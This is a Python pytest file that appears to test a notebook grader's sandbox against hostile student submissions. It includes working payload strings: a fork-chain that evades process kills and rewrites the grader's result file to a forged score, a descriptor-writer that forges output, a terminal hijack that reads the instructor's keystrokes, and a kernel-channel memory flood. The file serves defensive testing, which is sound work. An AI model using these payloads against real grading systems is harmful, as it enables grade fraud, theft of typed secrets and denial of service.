"""The grader owns its outputs and its terminal: each attack, first shown to work, then shown refused.

Positive controls are the code before the fix or a stock tool: the per-uid
``/proc`` sweep the grader used to kill a submission's processes, and stock
nbclient (its kernel inherits the harness's stdout, stderr and terminal, and its
client leaves the stdin and control channels unread). Then the real grader, on
real kernels, as root, at isolation ``namespaces`` (each kernel pid 1 of its
own PID namespace): the tests that need it skip only when not run as root.

Lab 02 is graded. Every hostile submission answers wrongly (0/4), so a forged
"4/4" can only come from the attack.
"""

from __future__ import annotations

import csv
import json
import os
import select
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest

from labkit.course import containment, sandbox
from labkit.course.grade import exercises_of

LAB = "02-git-status-and-diff"
SECRET = b"instructor-typed-secret-42"
FORGED = b'{"forged": "4/4 all correct", "submissions": [{"score": 4, "total": 4}]}\n'
WRONG = {q: ("1" if q == "q2" else "{'paths': ['nothing.txt'], 'hidden': 9}") for q in exercises_of(LAB)}

needs_root = pytest.mark.skipif(
    not hasattr(os, "getuid") or os.getuid() != 0 or not sys.platform.startswith("linux"),
    reason="PID namespaces and dedicated user ids need root on Linux (CI and the course machine run as root)",
)

# Fork-and-exit chains: each link forks and exits at once, so no pid lives long enough for a sweep of
# /proc to find and kill it. Then, once the grader's --json file holds a result, the chain rewrites it.
CHAIN = r"""
import ctypes, fcntl, os, stat, time
def __chain(life, forged):
    os.setsid()
    ctypes.CDLL(None).prctl(15, b"labkit-chain", 0, 0, 0)  # PR_SET_NAME: what the tests look for
    targets = []
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            st, acc = os.fstat(fd), fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE
            where = os.readlink("/proc/self/fd/%d" % fd)
        except OSError:
            continue
        if stat.S_ISREG(st.st_mode) and acc != os.O_RDONLY and not where.startswith(os.getcwd()):
            try:  # opened write-only (a shell's >): reopen the same file to read it as well
                targets.append(os.open("/proc/self/fd/%d" % fd, os.O_RDWR))
            except OSError:
                pass
    deadline, n = time.monotonic() + life, 0
    while time.monotonic() < deadline:
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            time.sleep(0.01)
        n += 1
        if n % 100 == 0:
            TICK
            for fd in targets:
                try:
                    data = os.pread(fd, 1 << 20, 0)
                    if b'"submissions"' in data and forged not in data:
                        os.ftruncate(fd, 0)
                        os.pwrite(fd, forged, 0)
                except OSError:
                    pass
    os._exit(0)
for __i in range(3):
    if os.fork() == 0:
        __chain(LIFE, FORGED)
"""
SEE_CHAIN = r"""
import os, time
time.sleep(1)
def __is_chain(p):
    try:
        return open("/proc/%s/comm" % p).read().strip() == "labkit-chain"
    except OSError:
        return False
print("CHAIN", sum(1 for p in os.listdir("/proc") if p.isdigit() and __is_chain(p)))
"""

# Write a forged result into every descriptor the kernel holds that leads out of it.
FORGE = r"""
import fcntl, os, stat
__wrote = []
for __name in os.listdir("/proc/self/fd"):
    __fd = int(__name)
    try:
        __st, __acc = os.fstat(__fd), fcntl.fcntl(__fd, fcntl.F_GETFL) & os.O_ACCMODE
        __where = os.readlink("/proc/self/fd/%d" % __fd)
    except OSError:
        continue
    if __acc == os.O_RDONLY or __where.startswith(os.getcwd()) or __where.startswith(("socket:", "anon_inode:")):
        continue
    if stat.S_ISFIFO(__st.st_mode) or stat.S_ISCHR(__st.st_mode) or stat.S_ISREG(__st.st_mode):
        try:
            os.write(__fd, FORGED)
            __wrote.append(__where)
        except OSError:
            pass
print("FORGE", __wrote)
"""

# Paint on the instructor's terminal and read what they type.
TTY = r"""
import os, select, time
__ttys = [int(n) for n in os.listdir("/proc/self/fd") if os.isatty(int(n))]
try:
    __ttys.append(os.open("/dev/tty", os.O_RDWR | os.O_NOCTTY))
except OSError as e:
    print("TTY /dev/tty", type(e).__name__)
for __fd in __ttys:
    try:
        os.write(__fd, b"\x1b]0;labkit-pwned\x07\x1b[2J")
    except OSError:
        pass
__stolen, __deadline = b"", time.monotonic() + 5
while __ttys and time.monotonic() < __deadline:
    for __fd in select.select(__ttys, [], [], 0.2)[0]:
        try:
            __stolen += os.read(__fd, 4096)
        except OSError:
            pass
print("TTY", len(__ttys), repr(__stolen))
"""

# Messages the client never reads, each under the 64 MiB message cap, on the stdin and control channels.
FLOOD = r"""
from ipykernel.kernelapp import IPKernelApp
__k = get_ipython().kernel
__parent, __ident = __k.get_parent("shell"), __k._parent_ident["shell"]
__big = "x" * (SIZE_MB << 20)
for __socket in (__k.stdin_socket, IPKernelApp.instance().control_socket):
    for __i in range(COUNT):
        __k.session.send(__socket, "input_request", {"prompt": __big, "password": False}, parent=__parent, ident=__ident)
del __big
import time
time.sleep(3)
print("FLOOD sent", COUNT)
"""


def _notebook(*cells: str):
    """A lab 02 submission: the hostile cells, then wrong answers for every exercise."""
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.metadata["labkit"] = {"lab": LAB, "kind": "starter"}
    nb.cells.extend(nbformat.v4.new_code_cell(c) for c in cells)
    nb.cells.extend(nbformat.v4.new_code_cell(f"answer_{q} = {v}") for q, v in WRONG.items())
    return nb


def _chain_cell(life: int, tick: bool = False) -> str:
    """The chain for ``life`` seconds; with ``tick``, each link now and then writes a byte to its stdout.

    Every link holds the stdout it inherited: end of file there means every one of them is gone.
    """
    tick_code = "os.write(1, b'.')" if tick else "pass"
    return CHAIN.replace("LIFE", str(life)).replace("FORGED", repr(FORGED)).replace("TICK", tick_code)


def _ticks(pipe, seconds: float, enough: int | None = None) -> tuple[int, bool]:
    """(bytes read, end of file reached) from ``pipe`` within ``seconds`` (or once ``enough`` bytes came)."""
    n, deadline = 0, time.monotonic() + seconds
    while (left := deadline - time.monotonic()) > 0 and (enough is None or n < enough):
        if not select.select([pipe], [], [], left)[0]:
            break
        data = os.read(pipe.fileno(), 65536)
        if not data:
            return n, True
        n += len(data)
    return n, False


def _chain_pids() -> list[int]:
    found = []
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                with open(f"/proc/{p}/comm") as fh:
                    if fh.read().strip() == "labkit-chain":
                        found.append(int(p))
            except OSError:
                pass
    return found


def _chains_forking(seconds: float) -> int:
    """How many new chain processes appear over ``seconds``: 0 once every chain is dead.

    A link lives for microseconds, so a scan finds only the zombies each leaves (until they are reaped); new
    pids are what shows that a chain still runs.
    """
    seen, new, deadline = set(_chain_pids()), 0, time.monotonic() + seconds
    while time.monotonic() < deadline:
        time.sleep(0.1)
        now = set(_chain_pids())
        new += len(now - seen)
        seen |= now
    return new


def _read_line(pipe, seconds: float = 30) -> tuple[bytes, int]:
    """(the first line of ``pipe``, bytes that came after it), read from the descriptor itself.

    A buffered ``readline`` keeps what follows the line in Python's buffer, where ``_ticks`` (which reads the
    descriptor) never sees it: a control could then miss the very ticks that prove its chains still run.
    """
    data, deadline = b"", time.monotonic() + seconds
    while b"\n" not in data and (left := deadline - time.monotonic()) > 0:
        if not select.select([pipe], [], [], left)[0]:
            break
        chunk = os.read(pipe.fileno(), 65536)
        if not chunk:
            break
        data += chunk
    line, _, rest = data.partition(b"\n")
    return line + b"\n", len(rest)


def _kill_chain_groups() -> None:
    """SIGKILL each chain's process group (a chain calls setsid, and every link it forks stays in its group)."""
    for pid in _chain_pids():
        try:
            with open(f"/proc/{pid}/stat") as fh:
                pgrp = int(fh.read().rsplit(")", 1)[1].split()[2])
            if pgrp > 1 and pgrp != os.getpgrp():
                os.killpg(pgrp, signal.SIGKILL)
        except (OSError, ValueError, IndexError):
            pass


def _end_chains(limit: float = 60) -> None:
    """Test cleanup: end every chain, by its process group and with one kill(-1) per user id it runs under."""
    deadline = time.monotonic() + limit
    while time.monotonic() < deadline:
        _kill_chain_groups()
        uids = set()
        for pid in _chain_pids():
            try:
                with open(f"/proc/{pid}/status") as fh:
                    uids.add(next(int(line.split()[1]) for line in fh if line.startswith("Uid:")))
            except (OSError, StopIteration):
                pass
        for uid in uids:
            if uid >= containment.MIN_SUBMISSION_UID:
                containment.kill_user(uid, uid)
        if _chains_forking(0.5) == 0:
            return


def _outputs(nb_path) -> str:
    nb = nbformat.read(nb_path, as_version=4)
    return "".join(
        o.get("text", "") for c in nb.cells for o in c.get("outputs", []) if o.get("output_type") == "stream"
    )


class Terminal:
    """A pty that is the controlling terminal, stdin and stderr of a command; an instructor types into it."""

    def __init__(self):
        self.master, self.slave = os.openpty()
        self.screen = bytearray()

    def _reader(self):
        while True:
            try:
                data = os.read(self.master, 65536)
            except OSError:
                return
            if not data:
                return
            self.screen.extend(data)

    def released(self, seconds: float) -> bool:
        """Whether, within ``seconds``, every process holding the terminal has closed it (the master reads EIO)."""
        self.reader.join(seconds)
        return not self.reader.is_alive()

    def run(self, cmd, stdout, env=None, timeout=600) -> int:
        def own_terminal():
            import fcntl
            import termios

            os.setsid()
            fcntl.ioctl(0, termios.TIOCSCTTY, 0)

        proc = subprocess.Popen(
            cmd, stdin=self.slave, stdout=stdout, stderr=self.slave, preexec_fn=own_terminal, env=env
        )
        os.close(self.slave)
        self.reader = threading.Thread(target=self._reader, daemon=True)
        self.reader.start()
        deadline = time.monotonic() + timeout
        while proc.poll() is None and time.monotonic() < deadline:
            os.write(self.master, SECRET + b"\n")  # the instructor keeps typing while the grader runs
            time.sleep(0.5)
        if proc.poll() is None:
            proc.kill()
        return proc.wait()


STOCK = r"""
import json, sys
import nbformat
from nbclient import NotebookClient
nb = nbformat.read(sys.argv[1], as_version=4)
NotebookClient(nb, timeout=60, kernel_name="python3", allow_errors=True, resources={"metadata": {"path": sys.argv[3]}}).execute()
nbformat.write(nb, sys.argv[2])
sys.stdout.write(json.dumps({"submissions": [{"score": 0, "total": 4}]}) + "\n")
"""


def _stock(nb_path: Path, out_nb: Path, stdout, terminal: Terminal | None = None) -> int:
    """Run one notebook with stock nbclient (a naive harness), stdout into ``stdout``."""
    cwd = out_nb.parent / "cwd"
    cwd.mkdir(exist_ok=True)
    cmd = [sys.executable, "-c", STOCK, str(nb_path), str(out_nb), str(cwd)]
    if terminal:
        return terminal.run(cmd, stdout)
    return subprocess.run(cmd, stdout=stdout, stderr=subprocess.DEVNULL, timeout=300).returncode


def _grade_cli(subs: Path, out: Path, timeout: int = 120, cell_timeout: int = 30) -> list[str]:
    return [
        sys.executable,
        "-m",
        "labkit",
        "labs",
        "grade",
        str(subs),
        "--out",
        str(out),
        "--isolation",
        "namespaces",
        "--jobs",
        "2",
        "--timeout",
        str(timeout),
        "--cell-timeout",
        str(cell_timeout),
        "--json",
    ]


# -- the PID namespace itself: the sandbox launcher, without the grader ----------------------------------------


def _launch(tmp_path: Path, level: str, code: str, uid: int | None) -> subprocess.Popen:
    """Start ``python -c code`` through the sandbox launcher at ``level`` (namespaces: pid 1 of its own namespace)."""
    work, runtime, root = tmp_path / "work", tmp_path / "runtime", tmp_path / "root"
    for d in (work, runtime, root):
        d.mkdir(parents=True)
    os.chmod(tmp_path, 0o711)
    spec = sandbox.SandboxSpec(
        level=level,
        workdir=str(work),
        runtime=str(runtime),
        env=sandbox.kernel_env(str(work), str(runtime)),
        uid=uid,
        gid=uid,
        root=str(root) if level == "namespaces" else None,
        binds=sandbox.python_binds() if level == "namespaces" else [],
        pid_namespace=level == "namespaces",
    )
    spec.write(tmp_path / "spec.json")
    return subprocess.Popen(
        [*sandbox.launcher(tmp_path / "spec.json"), sys.executable, "-c", code],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        start_new_session=True,
    )


def _chain_then_wait(life: int) -> str:
    return _chain_cell(life, tick=True) + "\nimport time\nprint('pid', os.getpid(), flush=True)\ntime.sleep(60)\n"


def _test_uid(n: int) -> int:
    """A user id of this test's own, below the grader's range (1,000,000 and up)."""
    return 500_000 + (os.getpid() % 40_000) * 10 + n


@needs_root
@pytest.mark.slow  # the old sweep waits up to 2 s per round
def test_the_old_uid_sweep_misses_a_fork_chain_and_kill_user_does_not(tmp_path):
    """Positive control: the grader's old kill (three sweeps of /proc by uid) leaves fork chains alive."""
    import psutil

    uid = _test_uid(0)

    def old_sweep(uid: int) -> None:  # labkit.course.grade._kill_user before this change, verbatim
        for _ in range(3):
            left = []
            for proc in psutil.process_iter(["uids"]):
                try:
                    if proc.info["uids"] and proc.info["uids"].real == uid:
                        left.append(proc)
                        os.kill(proc.pid, signal.SIGKILL)
                except (psutil.Error, ProcessLookupError):
                    pass
            if not left:
                return
            psutil.wait_procs(left, timeout=2)

    # Imports first: the interpreter's files may not be readable by the new user id.
    starter = "import ctypes, fcntl, os, stat, time\nos.setgroups([]); os.setgid(UID); os.setuid(UID)\n"
    starter = starter.replace("UID", str(uid)) + _chain_cell(30, tick=True)
    proc = subprocess.Popen([sys.executable, "-c", starter], stdout=subprocess.PIPE)
    try:
        assert _ticks(proc.stdout, 10, enough=1)[0] > 0  # the chains run
        old_sweep(uid)
        ticks, eof = _ticks(proc.stdout, 1.0)
        assert ticks > 0 and not eof  # and still run after the old kill
        assert containment.running({uid}, 0.5).get(uid, 0) > 0  # the grader's check sees them
        containment.kill_user(uid, uid)  # one kill(-1) as the user: fork cannot slip past it
        assert _ticks(proc.stdout, 10)[1]  # end of file: every link is gone
        assert containment.running({uid}, 0.5) == {}
    finally:
        proc.stdout.close()
        _end_chains()


@needs_root
def test_a_pid_namespace_ends_whole_with_its_supervisor(tmp_path):
    """Killing the launcher (all the kernel manager holds) ends the kernel and every process it started.

    Positive control: the same command at level ``none`` (no namespace; the kernel is the launcher) leaves
    its fork chains running after jupyter_client's kill of its process group.
    """
    # The chains live 30 s (long past this check on a loaded machine); the cleanup kills their groups.
    naive = _launch(tmp_path / "naive", "none", _chain_then_wait(30), None)
    try:
        line, _ = _read_line(naive.stdout)
        assert line.startswith(b"pid"), line
        os.killpg(naive.pid, signal.SIGKILL)  # jupyter_client's kill: the kernel's process group
        naive.wait(10)
        ticks, eof = _ticks(naive.stdout, 20, enough=1)  # a tick after the kill, however busy the machine
        assert ticks > 0 and not eof
    finally:
        naive.stdout.close()
        _end_chains()

    uid = _test_uid(1)
    boxed = _launch(tmp_path / "boxed", "namespaces", _chain_then_wait(30), uid)
    try:
        line = boxed.stdout.readline()
        assert line.split()[:2] == [b"pid", b"2"], (line, boxed.stderr.read()[-2000:])  # pid 1 is the init
        pidfd = containment.watch_namespace(boxed.pid)
        assert _ticks(boxed.stdout, 10, enough=1)[0] > 0  # the chains run inside
        os.kill(boxed.pid, signal.SIGKILL)  # only the supervisor: its death takes the namespace with it
        boxed.wait(10)
        assert select.select([pidfd], [], [], 10)[0]  # pid 1 has exited, so the namespace is empty
        os.close(pidfd)
        assert _ticks(boxed.stdout, 10)[1]  # end of file: nothing that held the kernel's stdout is left
        assert containment.running({uid}, 0.5) == {}
    finally:
        boxed.kill()
        boxed.stdout.close()
        _end_chains()


@needs_root
def test_user_processes_and_kill_user_on_a_non_dumpable_process(tmp_path):
    """A non-dumpable process's /proc files belong to root; the check reads the ids inside its status."""
    uid = _test_uid(2)
    code = (
        "import ctypes, os, time\nos.setgroups([]); os.setgid(UID); os.setuid(UID)\n"
        "ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)\nprint('ready', flush=True)\ntime.sleep(60)"
    ).replace("UID", str(uid))
    proc = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE)
    try:
        assert proc.stdout.readline() == b"ready\n"
        assert os.stat(f"/proc/{proc.pid}/status").st_uid == 0  # not the owner: the ids written in it
        assert containment.user_processes({uid}) == {uid: [proc.pid]}
        with pytest.raises(ValueError):
            containment.kill_user(os.getuid(), os.getgid())  # never the grader's own user
        containment.kill_user(uid, uid)
        assert proc.wait(10) == -signal.SIGKILL
        assert containment.user_processes({uid}) == {}
    finally:
        proc.kill()


# -- the grader, end to end: one run, in a terminal, stdout to a file ----------------------------------------------


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Stock nbclient (positive control) and then the grader, each on the same hostile notebooks."""
    if os.getuid() != 0:
        pytest.skip("the namespace path needs root")
    base = tmp_path_factory.mktemp("hostile")
    subs = base / "subs"
    subs.mkdir()
    nbformat.write(_notebook(_chain_cell(40), SEE_CHAIN), subs / "chain.ipynb")
    nbformat.write(_notebook(FORGE.replace("FORGED", repr(FORGED)), TTY), subs / "forge_tty.ipynb")

    # Positive control 1: under stock nbclient the chain outlives the harness and rewrites its stdout.
    stock = base / "stock"
    stock.mkdir()
    short_chain = subs.parent / "short_chain.ipynb"
    nbformat.write(_notebook(_chain_cell(10), SEE_CHAIN), short_chain)
    stock_chain_terminal = Terminal()
    with open(stock / "chain-stdout.json", "wb") as fh:
        assert _stock(short_chain, stock / "chain.ipynb", fh, stock_chain_terminal) == 0
    stock_terminal_released = stock_chain_terminal.released(1.0)
    stock_chains = _chains_forking(1.5)
    _end_chains()
    # Positive control 2: under stock nbclient the kernel writes into the harness's stdout and terminal.
    stock_terminal = Terminal()
    with open(stock / "forge-stdout.json", "wb") as fh:
        assert _stock(subs / "forge_tty.ipynb", stock / "forge_tty.ipynb", fh, stock_terminal) == 0

    out = base / "out"
    out.mkdir()
    (out / "grades.csv").write_text("an earlier run's grades\n")
    os.link(out / "grades.csv", base / "earlier-grades.csv")  # the old file, as a reader holding it sees it
    terminal = Terminal()
    with open(base / "grader-stdout.json", "wb") as fh:
        code = terminal.run(_grade_cli(subs, out), fh)
    released = terminal.released(10)
    after = _chains_forking(3.0)  # the chain would rewrite the JSON in this window
    _end_chains()
    return {
        "base": base,
        "out": out,
        "stock": stock,
        "stock_chains": stock_chains,
        "stock_terminal_released": stock_terminal_released,
        "released": released,
        "stock_screen": bytes(stock_terminal.screen),
        "code": code,
        "chains_after": after,
        "screen": bytes(terminal.screen),
        "stdout": (base / "grader-stdout.json").read_bytes(),
    }


@pytest.mark.notebook
@pytest.mark.slow
def test_positive_controls_the_attacks_work_against_stock_nbclient(hostile):
    stock = hostile["stock"]
    assert "CHAIN " in _outputs(stock / "chain.ipynb") and hostile["stock_chains"] > 0
    assert not hostile["stock_terminal_released"]  # the chains still hold the terminal after the harness exits
    assert (stock / "chain-stdout.json").read_bytes().startswith(FORGED)  # rewritten after the harness exited
    assert FORGED in (stock / "forge-stdout.json").read_bytes()
    assert FORGED.rstrip() in hostile["stock_screen"] and b"labkit-pwned" in hostile["stock_screen"]
    assert SECRET.decode() in _outputs(stock / "forge_tty.ipynb")  # what the instructor typed, stolen


@pytest.mark.notebook
@pytest.mark.slow
def test_the_grader_kills_the_fork_chain_whole_before_it_reports(hostile):
    result = json.loads(hostile["stdout"])  # exactly one JSON object: nothing before it, nothing rewrote it
    assert hostile["code"] == 0 and result["isolation"] == "namespaces" and result["processes"] == "pid_namespace"
    chain = next(s for s in result["submissions"] if s["submission"] == "chain.ipynb")
    seen = int(_outputs(hostile["out"] / chain["executed"]).split("CHAIN ", 1)[1].split()[0])
    assert seen > 0  # the chain ran inside the notebook
    assert hostile["chains_after"] == 0  # and nothing of it outlived the grader
    assert hostile["released"]  # nothing holds the grader's terminal once the grader has exited
    with open(hostile["out"] / "grades.csv", newline="", encoding="utf-8") as fh:
        rows = {r["submission"]: r for r in csv.DictReader(fh)}
    assert {s["submission"]: str(s["score"]) for s in result["submissions"]} == {
        name: r["score"] for name, r in rows.items()
    }
    assert all(s["score"] == 0 for s in result["submissions"])


@pytest.mark.notebook
@pytest.mark.slow
def test_a_submission_reaches_neither_the_graders_outputs_nor_its_terminal(hostile):
    assert FORGED not in hostile["stdout"] and b"forged" not in hostile["stdout"]
    assert b"labkit-pwned" not in hostile["screen"] and b"forged" not in hostile["screen"]
    result = json.loads(hostile["stdout"])
    sub = next(s for s in result["submissions"] if s["submission"] == "forge_tty.ipynb")
    printed = _outputs(hostile["out"] / sub["executed"])
    assert "TTY 0 b''" in printed  # no terminal among its descriptors, and no /dev/tty to open
    wrote = printed.split("FORGE ", 1)[1].splitlines()[0]
    assert "/dev/null" in wrote and ".json" not in wrote and "pts" not in wrote
    for path in hostile["out"].rglob("*"):
        if path.is_file():
            assert SECRET not in path.read_bytes(), path.name


@pytest.mark.notebook
@pytest.mark.slow
def test_outputs_are_replaced_whole(hostile):
    """grades.csv is a new file renamed into place: a reader of the old one never sees a mix.

    Positive control: writing in place (what the grader did) changes the old file under its reader.
    """
    base, out = hostile["base"], hostile["out"]
    assert (base / "earlier-grades.csv").read_text() == "an earlier run's grades\n"
    assert (out / "grades.csv").read_text().startswith("submission,lab,status")
    assert not [p.name for p in out.iterdir() if p.name.startswith(".")]  # no staging or partial file left
    naive = base / "naive.csv"
    naive.write_text("old\n")
    os.link(naive, base / "naive-reader.csv")
    naive.write_text("new\n")
    assert (base / "naive-reader.csv").read_text() == "new\n"


# -- bounded channels ---------------------------------------------------------------------------------------------

PEAK = r"""
import json, resource, sys
mode, nb_path, out = sys.argv[1:4]
if mode == "stock":
    import nbformat
    from nbclient import NotebookClient
    nb = nbformat.read(nb_path, as_version=4)
    NotebookClient(nb, timeout=120, kernel_name="python3", allow_errors=True, resources={"metadata": {"path": out}}).execute()
    printed = "".join(o.get("text", "") for c in nb.cells for o in c.get("outputs", []))
else:
    from labkit.course.grade import GradeOptions, grade
    r = grade([nb_path], out, GradeOptions(jobs=1, timeout=300, cell_timeout=120, isolation="namespaces"))
    printed = json.dumps(r["submissions"][0])
print(json.dumps({"peakMiB": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024, "printed": printed}))
"""


def _peak(mode: str, nb_path: Path, out: Path) -> dict:
    out.mkdir()
    proc = subprocess.run(
        [sys.executable, "-c", PEAK, mode, str(nb_path), str(out)], capture_output=True, text=True, timeout=600
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    return json.loads(proc.stdout.strip().splitlines()[-1])


@needs_root
@pytest.mark.notebook
@pytest.mark.slow
def test_unread_channels_do_not_grow_the_grader(tmp_path):
    """2 x 12 messages of 40 MiB on the stdin and control channels (each under the 64 MiB cap).

    Positive control: stock nbclient holds them all (about 960 MiB). The grader holds at most a few small
    messages per channel: it never connects stdin, and its control channel takes 4 messages of 1 MiB.
    benchmarks/grader_channel_flood.py measures the full 50 x 40 MiB attack.
    """
    nb_path = tmp_path / "flood.ipynb"
    nbformat.write(_notebook(FLOOD.replace("SIZE_MB", "40").replace("COUNT", "12")), nb_path)
    stock = _peak("stock", nb_path, tmp_path / "stock")
    assert "FLOOD sent 12" in stock["printed"]
    assert stock["peakMiB"] > 700
    graded = _peak("grader", nb_path, tmp_path / "grader")
    result = json.loads(graded["printed"])
    assert result["status"] == "graded" and not any("cell 0" in n for n in result["notes"])
    assert "FLOOD sent 12" in _outputs(tmp_path / "grader" / result["executed"])
    # On a quiet machine the grader stays at about 68 MiB for 2 or 12 messages per channel (the benchmark's
    # figure) while stock nbclient grows with every message. Under heavy load (CI with xdist) up to 462 MiB has
    # been seen against 1,027 MiB stock, so this test holds the grader to a fraction of stock, not to a number.
    assert graded["peakMiB"] < 0.6 * stock["peakMiB"], (graded["peakMiB"], stock["peakMiB"])


# -- a cell that swallows the interrupt ------------------------------------------------------------------------------


@needs_root
@pytest.mark.notebook
@pytest.mark.slow
def test_a_cell_that_swallows_the_interrupt_is_a_timeout_that_names_it(tmp_path):
    """Not "no_answers" with "output stopped arriving" (it printed 30 bytes): the cell, by index."""
    subs = tmp_path / "subs"
    subs.mkdir()
    stubborn = "import time\nprint('x' * 30)\nwhile True:\n    try:\n        time.sleep(0.5)\n    except KeyboardInterrupt:\n        pass"
    nbformat.write(_notebook("print('warming up')", stubborn), subs / "stubborn.ipynb")
    proc = subprocess.run(
        _grade_cli(subs, tmp_path / "out", timeout=300, cell_timeout=5),
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    sub = json.loads(proc.stdout)["submissions"][0]
    assert sub["status"] == "timeout", sub
    assert any(n.startswith("cell 1: ran past 5 s and went on after the interrupt") for n in sub["notes"]), sub
    assert not any("stopped arriving" in n for n in sub["notes"])
    assert {e["status"] for e in sub["exercises"].values()} == {"not_graded"}


# -- refusing to report -----------------------------------------------------------------------------------------------


@needs_root
@pytest.mark.notebook
@pytest.mark.slow
def test_the_grader_refuses_to_report_while_a_submission_process_runs(tmp_path, monkeypatch, capsys):
    """A process of the submission's user id that outlives the kill: error, exit 1, nothing written.

    No real submission process survives the kill (the tests above), so this one is made to: the grader's
    kill is replaced by one that skips the user id, and a real process is started under that id from
    outside the namespace (as an escape would leave it). Only the kill is replaced; the check is real.
    """
    from labkit.cli import main

    subs = tmp_path / "subs"
    subs.mkdir()
    nbformat.write(_notebook("print('hello')"), subs / "a.ipynb")
    out = tmp_path / "out"
    out.mkdir()
    (out / "grades.csv").write_text("an earlier run's grades\n")
    escaped: list[subprocess.Popen] = []
    real_end = containment.end_submission

    def leaky_end(*, uid, pidfd, pgid, wait_seconds=10.0):
        escaped.append(subprocess.Popen(["sleep", "120"], user=uid, group=uid, extra_groups=[]))
        return real_end(uid=None, pidfd=pidfd, pgid=None, wait_seconds=wait_seconds)

    monkeypatch.setattr(containment, "end_submission", leaky_end)
    try:
        code = main(
            [
                "labs",
                "grade",
                str(subs),
                "--out",
                str(out),
                "--isolation",
                "namespaces",
                "--cell-timeout",
                "30",
                "--json",
            ]
        )
    finally:
        for p in escaped:
            p.kill()
            p.wait()
    printed = capsys.readouterr().out
    assert code == 1 and len(escaped) == 1
    error = json.loads(printed)["error"]
    assert error["code"] == "submission_survived" and "a.ipynb" in error["message"]
    assert str(tmp_path) not in error["message"]
    assert (out / "grades.csv").read_text() == "an earlier run's grades\n"
    assert sorted(p.name for p in out.iterdir()) == ["grades.csv"]  # no html, no executed/, no staging
